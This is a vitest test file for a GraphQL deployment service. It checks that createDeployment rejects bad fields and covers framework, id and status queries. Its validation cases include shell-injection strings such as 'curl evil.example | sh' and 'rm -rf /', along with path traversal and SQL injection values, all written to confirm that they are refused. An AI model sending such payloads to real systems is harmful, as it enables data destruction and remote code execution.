import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sendOver } from '../support/graphql-client.js'
import { startStack, type Stack } from '../support/start-stack.js'
import { SEED_FRAMEWORK_IDS } from '../support/seed-frameworks.js'

let stack: Stack
beforeAll(async () => {
  stack = await startStack({ kamatera: {} })
})
afterAll(() => stack?.close())

const ask = (query: string, variables?: Record<string, unknown>) =>
  sendOver('http', stack.url, undefined, query, variables)
const create = (input: Record<string, unknown>) =>
  ask('mutation ($input: CreateDeploymentInput!) { createDeployment(input: $input) { id status } }', {
    input: { type: 'VM', framework: 'nodejs', githubUrl: 'https://github.com/acme/node-hello.git', ...input },
  })

describe('createDeployment input', () => {
  it.each([
    [{ framework: 'rails' }, 'input.framework'],
    [{ githubUrl: 'https://gitlab.com/acme/app.git' }, 'input.githubUrl'],
    [{ githubUrl: 'http://github.com/acme/app' }, 'input.githubUrl'],
    [{ githubUrl: 'https://github.com/acme/app.git; rm -rf /' }, 'input.githubUrl'],
    [{ githubUrl: 'https://github.com/acme/$(whoami)' }, 'input.githubUrl'],
    [{ githubUrl: 'https://github.com/acme' }, 'input.githubUrl'],
    [{ branch: 'main; curl evil.example | sh' }, 'input.branch'],
    [{ branch: '$(reboot)' }, 'input.branch'],
    [{ branch: '`id`' }, 'input.branch'],
    [{ branch: '../../etc' }, 'input.branch'],
    [{ branch: '-rf' }, 'input.branch'],
    [{ name: 'My App' }, 'input.name'],
    [{ name: 'app&&reboot' }, 'input.name'],
    [{ name: "x'; drop table deployments; --" }, 'input.name'],
    [{ name: '-leading' }, 'input.name'],
    [{ cpu: 0 }, 'input.cpu'],
    [{ cpu: 1000 }, 'input.cpu'],
    [{ memory: 64 }, 'input.memory'],
    [{ disk: 100_000 }, 'input.disk'],
  ])('refuses %o with BAD_USER_INPUT naming %s, and creates nothing', async (input, field) => {
    const answer = await create(input)
    expect(answer.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT')
    expect(answer.errors![0]!.message.startsWith(`${field}:`)).toBe(true)
    const list = await ask('{ deployments { totalCount } }')
    expect((list.data!.deployments as { totalCount: number }).totalCount).toBe(0)
  })

  it(
    'answers UNSUPPORTED for a provider that cannot deploy, ' + 'and BAD_USER_INPUT for one that does not exist',
    async () => {
      // Kamatera makes VMs only: a container deployment is beyond it.
      const kamatera = await create({ provider: 'kama', type: 'LXC' })
      expect(kamatera.errors?.[0]?.extensions?.code).toBe('UNSUPPORTED')
      expect(kamatera.errors![0]!.message).toBe(
        'input.provider: kama (the kamatera provider) cannot deploy an LXC container',
      )
      const unknown = await create({ provider: 'nowhere' })
      expect(unknown.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT')
      expect(unknown.errors![0]!.message.startsWith('input.provider:')).toBe(true)
    },
  )
})

describe('deployment queries', () => {
  it('lists the frameworks with their versions and languages', async () => {
    const answer = await ask('{ frameworks { id name version language port healthPath stages } }')
    const frameworks = answer.data!.frameworks as { id: string; language: string; stages: string[] }[]
    expect(frameworks.map((framework) => framework.id)).toEqual(expect.arrayContaining([...SEED_FRAMEWORK_IDS]))
    expect(frameworks[0]!.stages).toEqual(['runtime', 'fetch', 'dependencies', 'build', 'service'])
  })

  it('answers null for an unknown deployment and BAD_USER_INPUT for a malformed id', async () => {
    expect((await ask('{ deployment(id: "4242") { id } }')).data!.deployment).toBeNull()
    for (const id of ['abc', '01', '1e0', ' 1']) {
      expect(
        (await ask('query ($id: ID!) { deployment(id: $id) { id } }', { id })).errors?.[0]?.extensions,
      ).toMatchObject({ code: 'BAD_USER_INPUT', field: 'id' })
    }
  })

  it('reports the system status with provider connections and deployment counts', async () => {
    const answer = await ask(
      '{ systemStatus { status providers { name connected } deployments { total running failed pending } } }',
    )
    expect(answer.data!.systemStatus).toMatchObject({
      status: 'operational',
      providers: [
        { name: 'pve-lab', connected: true },
        { name: 'kama', connected: true },
      ],
      deployments: { total: 0, running: 0, failed: 0, pending: 0 },
    })
  })
})
